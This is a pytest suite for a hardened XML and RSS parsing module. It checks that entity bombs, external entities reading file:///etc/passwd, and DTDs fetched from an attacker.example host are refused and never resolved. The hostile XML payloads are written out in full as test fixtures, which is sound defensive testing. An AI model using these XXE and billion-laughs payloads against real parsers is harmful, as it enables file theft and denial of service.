"""Hardened XML: no external entities, no DTD fetches, bounded entity expansion.

Each hostile document is written here (the classic cases defusedxml tests: billion laughs,
quadratic blow-up, external entities, parameter entities, external DTDs). Tests marked
"reader" go through ``read_file`` and need the feed-reader patch (safexml check, bytes
wrapped in BytesIO); the rest test ``rashomon.safexml`` directly.
"""

from __future__ import annotations

import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from rashomon.errors import FormatError, InputError
from rashomon.ingest.readers import RawDocument, read_file
from rashomon.safexml import check_xml, inspect_doctype, parse_xml

ITEM = "<item><title>Dam fails</title><description>{body}</description></item>"


def feed(body: str = "The dam failed on Tuesday.", doctype: str = "") -> bytes:
    return (f'<?xml version="1.0"?>\n{doctype}\n<rss version="2.0"><channel><title>T</title>'
            f"{ITEM.format(body=body)}</channel></rss>").encode()  # fmt: skip


BILLION_LAUGHS = feed(
    "&lol9;",
    '<!DOCTYPE rss [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>",
)
QUADRATIC = feed("&a;" * 2000, '<!DOCTYPE rss [<!ENTITY a "' + "B" * 50_000 + '">]>')


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    f = tmp_path / "secret.txt"
    f.write_text("TOP-SECRET-CANARY")
    return f


@pytest.fixture
def opened_files() -> Iterator[list[str]]:
    """Every file Python opens and every socket it touches while the test runs."""
    seen: list[str] = []
    active = [True]

    def hook(event: str, args: tuple[object, ...]) -> None:
        if not active[0]:
            return
        if event == "open" and args and isinstance(args[0], str | bytes):
            seen.append(str(args[0]))
        elif event.startswith(("socket.", "urllib.")):
            seen.append(f"{event}:{args[:2]}")

    sys.addaudithook(hook)  # audit hooks cannot be removed: deactivate it instead
    try:
        yield seen
    finally:
        active[0] = False


def _write(tmp_path: Path, name: str, data: bytes) -> str:
    path = tmp_path / name
    path.write_bytes(data)
    return str(path)


# --- the check itself -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (BILLION_LAUGHS, "refers to other entities"),
        (QUADRATIC, "more than 1,000,000 characters"),
        (feed("&x;", '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "external entities"),
        (feed("&x;", '<!DOCTYPE rss [<!ENTITY x PUBLIC "-//X//Y" "http://attacker.example/x">]>'), "external entities"),
        (feed("x", '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'), "parameter entities"),
        (feed("&a;", '<!DOCTYPE rss [<!ENTITY a "&#38;b;"><!ENTITY b "x">]>'), None),  # a char ref only: fine
        (feed("&c;", "<!DOCTYPE rss [" + "".join(f'<!ENTITY e{i} "v">' for i in range(150)) + "]>"), "150 entities"),
        # A declaration outside a well-formed DOCTYPE still reaches feedparser's loose parser.
        (b"junk\n<!ENTITY a '" + b"B" * 50_000 + b"'>\n<rss>" + b"&a;" * 100 + b"</rss>", "outside a DOCTYPE"),
        # Hidden from a byte-level search by UTF-16: the check decodes as the parser will.
        (QUADRATIC.decode().encode("utf-16"), "more than 1,000,000"),
    ],
    ids=["billion-laughs", "quadratic", "external-system", "external-public", "parameter", "charref", "too-many", "loose", "utf16"],
)
def test_hostile_dtds_are_refused(data: bytes, reason: str | None) -> None:
    if reason is None:
        check_xml(data, "feed.xml")
        return
    with pytest.raises(FormatError, match=reason) as info:
        check_xml(data, "feed.xml")
    assert info.value.path == "feed.xml"


def test_a_quoted_bracket_does_not_end_the_internal_subset() -> None:
    info = inspect_doctype('<!DOCTYPE r [<!ENTITY a "]>"><!ENTITY b SYSTEM "file:///x">]><r/>')
    assert info is not None and info.entities == {"a": "]>"} and info.external_entities == ("b",)


@pytest.mark.parametrize(
    "doctype",
    [
        "",
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">',
        '<!DOCTYPE rss [<!ENTITY id "tag:example.com,">]>',
        "<!DOCTYPE rss [<!ELEMENT rss ANY><!-- a comment --><!ATTLIST rss version CDATA #IMPLIED>]>",
    ],
)
def test_ordinary_feeds_pass(doctype: str) -> None:
    check_xml(feed("&id;" if "id" in doctype else "plain", doctype), "feed.xml")


def test_the_check_is_fast_on_a_large_bomb() -> None:
    big = feed("&a;" * 200_000, '<!DOCTYPE rss [<!ENTITY a "' + "B" * 1_000_000 + '">]>')
    start = time.monotonic()
    with pytest.raises(FormatError):
        check_xml(big, "big.xml")
    assert time.monotonic() - start < 5


# --- lxml, hardened ---------------------------------------------------------------------


def test_parse_xml_neither_reads_files_nor_resolves_entities(tmp_path: Path, secret: Path, opened_files: list[str]) -> None:
    data = f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}">]><r>&x;</r>'.encode()
    with pytest.raises(FormatError, match="external"):
        parse_xml(data, "doc.xml")
    # Even past the check (called directly on a parser as configured), nothing is read.
    from lxml import etree

    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False, huge_tree=False)
    root = etree.fromstring(data, parser)
    assert "TOP-SECRET" not in etree.tostring(root).decode()
    assert str(secret) not in opened_files


def test_parse_xml_reads_plain_xml() -> None:
    root = parse_xml(b"<?xml version='1.0'?><r><a>x</a></r>", "doc.xml")
    assert root.findtext("a") == "x"


def test_parse_xml_reports_broken_xml_as_format_error() -> None:
    with pytest.raises(FormatError, match="invalid XML"):
        parse_xml(b"<r><a></r>", "doc.xml")


# --- through the feed reader (needs the readers patch) ----------------------------------


def _items(path: str) -> list[RawDocument | InputError]:
    return list(read_file(path))


@pytest.mark.parametrize("data", [BILLION_LAUGHS, QUADRATIC], ids=["billion-laughs", "quadratic"])
def test_reader_refuses_entity_bombs_quickly(tmp_path: Path, data: bytes) -> None:
    path = _write(tmp_path, "bomb.xml", data)
    start = time.monotonic()
    [item] = _items(path)
    assert time.monotonic() - start < 2
    assert isinstance(item, FormatError) and "entit" in item.reason


def test_reader_never_reads_an_external_entity(tmp_path: Path, secret: Path, opened_files: list[str]) -> None:
    path = _write(tmp_path, "ext.xml", feed("&x;", f'<!DOCTYPE rss [<!ENTITY x SYSTEM "file://{secret}">]>'))
    items = _items(path)
    assert not any(isinstance(i, RawDocument) and "TOP-SECRET" in i.text for i in items)
    assert str(secret) not in opened_files
    assert any(isinstance(i, FormatError) and "external" in i.reason for i in items)


def test_reader_never_fetches_an_external_dtd(tmp_path: Path, opened_files: list[str]) -> None:
    dtd = '<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">'
    path = _write(tmp_path, "dtd.xml", feed("The dam failed.", dtd))
    [doc] = _items(path)
    assert isinstance(doc, RawDocument) and doc.text == "The dam failed."
    assert not [s for s in opened_files if s.startswith(("socket.", "urllib."))]


def test_feed_bytes_are_never_taken_for_a_file_name(tmp_path: Path) -> None:
    """feedparser.parse(bytes) opens the bytes as a path when such a file exists: a
    .xml file holding a path would make Rashomon read that other file."""
    other = _write(tmp_path, "private-feed.xml", feed("PRIVATE ENTRY TEXT"))
    decoy = _write(tmp_path, "decoy.xml", other.encode())
    items = _items(decoy)
    assert not any(isinstance(i, RawDocument) and "PRIVATE" in i.text for i in items)
    assert all(isinstance(i, InputError) for i in items)


def test_reader_keeps_a_simple_internal_entity(tmp_path: Path) -> None:
    # One declaration per line, as feeds write them (feedparser keeps only those).
    doctype = '<!DOCTYPE rss [\n  <!ENTITY who "our reporter">\n]>'
    path = _write(tmp_path, "ok.xml", feed("Filed by &who; on Tuesday.", doctype))
    [doc] = _items(path)
    assert isinstance(doc, RawDocument) and doc.text == "Filed by our reporter on Tuesday."
